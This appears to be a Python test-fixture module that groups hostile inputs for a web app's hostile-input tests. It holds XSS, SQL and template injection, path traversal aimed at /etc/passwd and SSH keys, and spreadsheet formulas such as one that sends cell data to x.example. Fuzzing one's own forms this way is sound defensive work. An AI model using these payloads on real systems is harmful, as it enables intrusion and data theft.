"""Hostile inputs, grouped, as data: what the hostile-input tests post into every form and API field.

``TEXT`` groups are strings a client can send as JSON strings and form values. ``RAW_BYTES`` are
byte strings that are not valid UTF-8 (for form posts), ``LONE_SURROGATES`` are strings that only a
JSON body can carry (``\\ud800`` escapes that are no Unicode text), and ``WRONG_TYPES`` are JSON values
of the wrong type for a field. ``DANGEROUS_MARKUP`` is what must never appear verbatim in a page.
"""

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="javascript&colon;alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '";alert(1);//',
    "';alert(1);//",
    "\\';alert(1);//",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<div style="background:url(javascript:alert(1))">',
    "<style>@import 'http://x.example/x.css';</style>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '{"a":"</script><script>alert(1)</script>"}',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<x contenteditable onblur=alert(1)>lose focus",
]

SQL_INJECTION = [
    "' OR '1'='1",
    "' OR 1=1--",
    '" OR ""="',
    "'; DROP TABLE person;--",
    "1; DROP TABLE ab_user",
    "' UNION SELECT username, password FROM ab_user--",
    "') OR ('1'='1",
    "admin'--",
    "1' AND SLEEP(5)--",
    "1'; SELECT pg_sleep(5);--",
    "' AND 1=CAST((SELECT version()) AS int)--",
    "%' OR name LIKE '%",
    "\\'; --",
    "1 OR 1=1",
    "' OR ''='",
    "'||(SELECT sqlite_version())||'",
    "'; INSERT INTO ab_user (username) VALUES ('x');--",
    "' ; UPDATE ab_user SET active=1;--",
    "%00' OR 1=1--",
    "'/**/OR/**/1=1--",
    "1e1' OR '1",
    "' GROUP BY 1 HAVING 1=1--",
    "' ORDER BY 100--",
    "\"; COPY (SELECT '') TO PROGRAM 'id';--",
    "'; ATTACH DATABASE '/tmp/x.db' AS x;--",
    "$$; SELECT 1; $$",
    "_%",
    "%",
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{% raw %}x{% endraw %}",
    "{% for x in range(3) %}{{x}}{% endfor %}",
    "{{ config }}",
    "{{ config.SECRET_KEY }}",
    "{{ request.environ }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "*{7*7}",
    "@(7*7)",
    "%(name)s",
    "%s%s%s%s%n",
    "{0.__class__}",
    "{name}",
    "{{_('x')}}",
    "${{7*7}}",
    "[[7*7]]",
]

PATH_TRAVERSAL = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "/proc/self/environ",
    "file:///etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "\\\\server\\share\\x",
    "../instance/platform.db",
    "/dev/zero",
    "CON",
    "x/../../y",
    "~/.ssh/id_rsa",
]

CONTROL_CHARACTERS = [
    "\x00",
    "a\x00b",
    "\x00<script>alert(1)</script>",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "\x0b\x0c",
    "\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f",
    "\x7f",
    "\x80\x85\x9f",
    "line1\r\nline2",
    "header\r\nSet-Cookie: x=1",
    "\r\n\r\n<html>",
    "tab\there",
    "\x1b[31mred\x1b[0m",
    "\x08\x08\x08backspace",
    "\u2028line separator\u2029",
    "\ufffe\uffff",
    "\ufeffBOM",
    "\x00" * 20,
]

BIDI_AND_INVISIBLE = [
    "\u202eevil.exe\u202dtxt.pdf",
    "abc\u202edcba",
    "\u202a\u202b\u202c\u202d\u202e",
    "\u2066\u2067\u2068\u2069",
    "\u200e\u200f",
    "\u061c",
    "zero\u200bwidth\u200c\u200djoiner",
    "\u2060\u2061\u2062\u2063\u2064",
    "\u00ad soft hyphen",
    "\u180e mongolian vowel separator",
    "admin\u200b",
    "\u3000全角空格\u3000",
]

LONG = [
    "A" * 10_000,
    "长" * 10_000,
    "<" * 10_000,
    "'" * 10_000,
    "😀" * 10_000,
    "a " * 5_000,
    "x" * 201,
    "x" * 301,
    "\u0301" * 5_000,
    ("<script>" * 1_250),
]

EMOJI_AND_UNICODE = [
    "😀",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇨🇳🇬🇧",
    "👍🏽",
    "𠮷野家",
    "𝕳𝖊𝖑𝖑𝖔",
    "Z̴̡̪͇͈͚̏a̵͖̲̎l̴̡͝g̷̩̊o̸̟̾",
    "ﬁ ﬂ",
    "ＡＢＣ１２３",
    "İıŞş",
    "ß ẞ",
    "Ω ≈ ç √ ∫",
    "مرحبا",
    "שלום",
    "こんにちは",
    "한국어",
    "\U0001f4a9" * 3,
    "👩🏻‍💻 ",
    "\U000e0041\U000e0042",
]

FORMULA_AND_CSV = [
    "=1+1",
    '=HYPERLINK("http://x.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '"a","b"',
    "a,b;c\td",
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    'DDE("cmd";"/C calc";"!A0")',
]

NUMERIC_AND_EDGE_STRINGS = [
    "",
    " ",
    "   \t  ",
    "null",
    "None",
    "undefined",
    "true",
    "NaN",
    "Infinity",
    "-Infinity",
    "0",
    "-1",
    "99999999999999999999",
    "1e309",
    "0x41",
    "1,000",
    "١٢٣",
    "２０２６-０１-０１",
    "2026-02-30",
    "0000-00-00",
    "9999-12-31T23:59:60",
    "[]",
    "{}",
    "[object Object]",
]

#: every group of string payloads
TEXT = {
    "xss": XSS,
    "sql": SQL_INJECTION,
    "template": TEMPLATE_INJECTION,
    "path": PATH_TRAVERSAL,
    "control": CONTROL_CHARACTERS,
    "bidi": BIDI_AND_INVISIBLE,
    "long": LONG,
    "unicode": EMOJI_AND_UNICODE,
    "formula": FORMULA_AND_CSV,
    "edge": NUMERIC_AND_EDGE_STRINGS,
}

#: form posts: bytes that are not UTF-8 (percent-encoded by the test client as they are)
RAW_BYTES = [
    b"\xff",
    b"\xfe\xff",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf8\x88\x80\x80\x80",
    b"abc\x80def",
    b"\xe4\xb8",
    b"<script>\xff</script>",
    b"\x00\xff\x00",
    b"\xf4\x90\x80\x80",
]

#: JSON strings that decode to lone UTF-16 surrogates (sent as raw JSON text)
LONE_SURROGATES = [
    '"\\ud800"',
    '"\\udfff"',
    '"a\\ud83dz"',
    '"\\ude00\\ud83d"',
    '"<script>\\udc80</script>"',
    '"\\ud800\\ud800\\ud800"',
]

#: JSON values of the wrong type for text, number, date, flag and relation fields
WRONG_TYPES = [
    None,
    True,
    False,
    0,
    -1,
    1.5,
    2**63,
    -(2**63) - 1,
    1e308,
    "1",
    "12.5",
    "abc",
    [],
    [1, 2],
    ["x"],
    {},
    {"id": 1},
    {"$gt": ""},
    [[1]],
    {"__proto__": {"admin": True}},
]

#: markup that must never reach a page verbatim (a page shows it escaped, or not at all)
DANGEROUS_MARKUP = ("<script", "<img", "<svg", "<iframe", "<body", "<a href", "<details", "<input", "onerror=")


def all_text() -> list[tuple[str, int, str]]:
    """(group, index, payload) for every string payload."""
    return [(group, index, payload) for group, payloads in TEXT.items() for index, payload in enumerate(payloads)]


def total() -> int:
    """How many hostile inputs the corpus holds."""
    return len(all_text()) + len(RAW_BYTES) + len(LONE_SURROGATES) + len(WRONG_TYPES)
